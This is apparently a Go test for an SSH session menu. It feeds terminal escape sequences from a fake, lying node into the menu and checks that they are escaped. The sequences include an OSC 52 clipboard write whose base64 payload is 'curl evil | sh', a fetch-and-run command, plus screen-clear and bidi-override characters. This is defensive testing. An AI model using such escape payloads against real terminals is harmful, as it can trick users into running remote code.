package sshd_test

import (
	"context"
	"io"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"golang.org/x/crypto/ssh"

	"github.com/fleetmux/fleetmux/api"
	"github.com/fleetmux/fleetmux/internal/testutil"
	"github.com/fleetmux/fleetmux/internal/testutil/stack"
	"github.com/fleetmux/fleetmux/sshd"
)

// Terminal escapes an attacker puts in a title: OSC 52 writes the reader's
// clipboard, ESC[2J clears the screen, C1 CSI and a bidi override do the same
// without an ESC byte.
const (
	osc52       = "\x1b]52;c;Y3VybCBldmlsIHwgc2gK\x07"
	eraseScreen = "\x1b[2J"
	c1CSI       = "\u009b2J"
	rlo         = "\u202e"
)

// fakeFleet is a Fleet whose session list is whatever a test says (a node that
// lies); the rest is not served.
type fakeFleet struct{ list api.SessionList }

var _ sshd.Fleet = (*fakeFleet)(nil)

var errNotServed = api.Errorf(api.CodeUnavailable, "not served by the fake fleet")

func (f *fakeFleet) ActAs(actor, role string) context.Context { return context.Background() }
func (f *fakeFleet) Sessions(context.Context, api.SessionFilter) (api.SessionList, error) {
	return f.list, nil
}
func (f *fakeFleet) Session(context.Context, string, string) (api.Session, error) {
	return api.Session{}, errNotServed
}
func (f *fakeFleet) AttachInput(context.Context, string, string, string) error { return errNotServed }
func (f *fakeFleet) TakeOver(context.Context, string, string) (api.TakeOver, error) {
	return api.TakeOver{}, errNotServed
}
func (f *fakeFleet) WatchEvents(string, string, func(api.SessionEvent)) (func(), error) {
	return nil, errNotServed
}
func (f *fakeFleet) Resize(context.Context, string, string, int, int) (api.Session, error) {
	return api.Session{}, errNotServed
}
func (f *fakeFleet) Redraw(context.Context, string, string, io.Writer) (int64, error) {
	return 0, errNotServed
}
func (f *fakeFleet) Follow(context.Context, string, string, int64, io.Writer) (*int, bool, error) {
	return nil, false, errNotServed
}
func (f *fakeFleet) Audit(api.AuditRecord) {}

// TestSSHMenuPrintable is the output half of issue 15 #14: whatever a node says
// (an older node, or one that lies), the SSH menu prints no control character.
func TestSSHMenuPrintable(t *testing.T) {
	fleet := &fakeFleet{list: api.SessionList{Sessions: []api.Session{{
		Node: "n1", ID: "s1", State: api.StateRunning + eraseScreen, Title: osc52 + eraseScreen, CurrentCommand: c1CSI + rlo + "sleep",
	}}}}
	dir := t.TempDir()
	viewer := newSigner(t)
	ak := filepath.Join(dir, "authorized_keys")
	if err := os.WriteFile(ak, ssh.MarshalAuthorizedKey(viewer.PublicKey()), 0o600); err != nil {
		t.Fatal(err)
	}
	srv, err := sshd.Start(sshd.Config{Listen: "127.0.0.1:0", HostKeyFile: filepath.Join(dir, "host_key"), AuthorizedKeys: ak,
		Fleet: fleet, Logger: stack.Quiet(), Exec: func(context.Context, []string, string, string, io.Reader, io.Writer, io.Writer) int { return 0 }})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { srv.Close() })
	hk, err := srv.HostKey()
	if err != nil {
		t.Fatal(err)
	}
	c, err := ssh.Dial("tcp", srv.Addr(), &ssh.ClientConfig{User: "me", Auth: []ssh.AuthMethod{ssh.PublicKeys(viewer)}, HostKeyCallback: ssh.FixedHostKey(hk), Timeout: 10 * time.Second})
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	s, err := testutil.SSHSession(c, time.Minute)
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	var mu sync.Mutex
	var out strings.Builder
	s.Stdout = writerFunc(func(p []byte) (int, error) { mu.Lock(); defer mu.Unlock(); return out.Write(p) })
	in, err := s.StdinPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := s.RequestPty("xterm", 24, 100, ssh.TerminalModes{}); err != nil {
		t.Fatal(err)
	}
	if err := s.Shell(); err != nil {
		t.Fatal(err)
	}
	text := func() string { mu.Lock(); defer mu.Unlock(); return out.String() }
	testutil.Eventually(t, 10*time.Second, func() bool { return strings.Contains(text(), "attach to [number]") }, "the menu")
	io.WriteString(in, "q\r")
	menu := text()
	if !strings.Contains(menu, "n1/s1") || !strings.Contains(menu, `\x1b]52`) {
		t.Fatalf("the menu does not show the session, escaped:\n%q", menu)
	}
	for _, bad := range []string{"\x1b", "\x07", "\u009b", rlo} {
		if strings.Contains(menu, bad) {
			t.Errorf("the menu holds %q raw:\n%q", bad, menu)
		}
	}
}
